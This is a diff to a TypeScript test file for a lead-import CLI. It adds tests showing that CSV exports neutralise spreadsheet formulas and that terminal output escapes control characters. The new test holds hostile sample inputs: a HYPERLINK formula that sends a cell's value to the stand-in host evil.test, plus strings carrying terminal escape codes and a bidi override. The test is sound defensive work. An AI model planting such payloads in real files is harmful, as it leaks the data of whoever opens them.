@@ -6,6 +6,7 @@ import { promisify } from 'node:util';
 import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { TEST_DIALECTS } from '../../test/databases';
 
 const run = promisify(execFile);
@@ -139,10 +140,11 @@ describe.each(TEST_DIALECTS)('embudo CLI on %s', (dialect) => {
     );
     expect(imported.code, imported.stderr).toBe(0);
     expect(imported.stdout).toContain('1100 leads imported');
-    const lines = readFileSync(out, 'utf8').trim().split('\n');
+    const lines = readFileSync(out, 'utf8').trimEnd().split('\r\n');
     expect(lines).toHaveLength(1101);
+    // A phone starting with + is neutralised like any cell a spreadsheet would compute.
     expect(lines[1]).toMatch(
-      /^Lead 0,l0@example\.com,\+52 55 1000,http:\/\/localhost:3000\/acme\/[A-Za-z0-9_-]{32}$/,
+      /^Lead 0,l0@example\.com,'\+52 55 1000,http:\/\/localhost:3000\/acme\/[A-Za-z0-9_-]{32}$/,
     );
 
     const bad = join(dir, 'bad.csv');
@@ -164,5 +166,54 @@ describe.each(TEST_DIALECTS)('embudo CLI on %s', (dialect) => {
     const page = JSON.parse(listed.stdout) as { items: { name: string }[]; nextCursor: string | null };
     expect(page.items[0]?.name).toBe('Lead 0');
     expect(page.items.some((l) => l.name === 'Fine')).toBe(false);
+  });
+
+  it('writes hostile names as inert CSV cells and never prints control characters to the terminal', async () => {
+    const funnel = await embudo('funnel', 'create', '--account', 'acme', '--name', 'Hostile', '--json');
+    const funnelId = (JSON.parse(funnel.stdout) as { id: string }).id;
+    const formula = '=HYPERLINK("http://evil.test/leak?"&D3,"Ver")';
+    const clear = 'Eve\u001b[2J\u001b[H\u009b31m\u202eevil';
+    const split = 'Carriage\rReturn';
+    const file = join(dir, 'hostile.csv');
+    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
+    writeFileSync(file, `name,phone\n${quote(formula)},\n${quote(clear)},\n${quote(split)},+1 555 0100\n`);
+    const out = join(dir, 'hostile-links.csv');
+    const imported = await embudo(
+      'lead',
+      'import',
+      '--account',
+      'acme',
+      '--funnel',
+      funnelId,
+      '--file',
+      file,
+      '--out',
+      out,
+    );
+    expect(imported.code, imported.stderr).toBe(0);
+    const rows = parseCsv<Record<string, string>>(readFileSync(out, 'utf8'), { columns: true });
+    // Three records, the carriage return kept inside its cell, the formula shown as text.
+    expect(rows.map((r) => r.name)).toEqual([`'${formula}`, clear, split]);
+    expect(rows.every((r) => /^http:\/\/localhost:3000\/acme\/[A-Za-z0-9_-]{32}$/.test(r.url ?? ''))).toBe(
+      true,
+    );
+
+    for (const args of [
+      ['lead', 'list', '--account', 'acme', '--funnel', funnelId],
+      ['lead', 'list', '--account', 'acme', '--funnel', funnelId, '--json'],
+      ['lead', 'import', '--account', 'acme', '--funnel', funnelId, '--file', file],
+    ]) {
+      const printed = await embudo(...args);
+      expect(printed.code, printed.stderr).toBe(0);
+      // No ESC, CSI, CR or bidi override reaches the terminal; the text shows them escaped.
+      // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+      expect(printed.stdout).not.toMatch(/[\u001b\u009b\r\u202e]/);
+    }
+    const listed = await embudo('lead', 'list', '--account', 'acme', '--funnel', funnelId);
+    expect(listed.stdout).toContain('Eve\\x1b[2J\\x1b[H\\x9b31m\\u{202e}evil');
+    expect(listed.stdout).toContain('Carriage\\x0dReturn');
+    const json = await embudo('lead', 'list', '--account', 'acme', '--funnel', funnelId, '--json');
+    const names = (JSON.parse(json.stdout) as { items: { name: string }[] }).items.map((l) => l.name);
+    expect(names).toContain(clear);
   });
 });
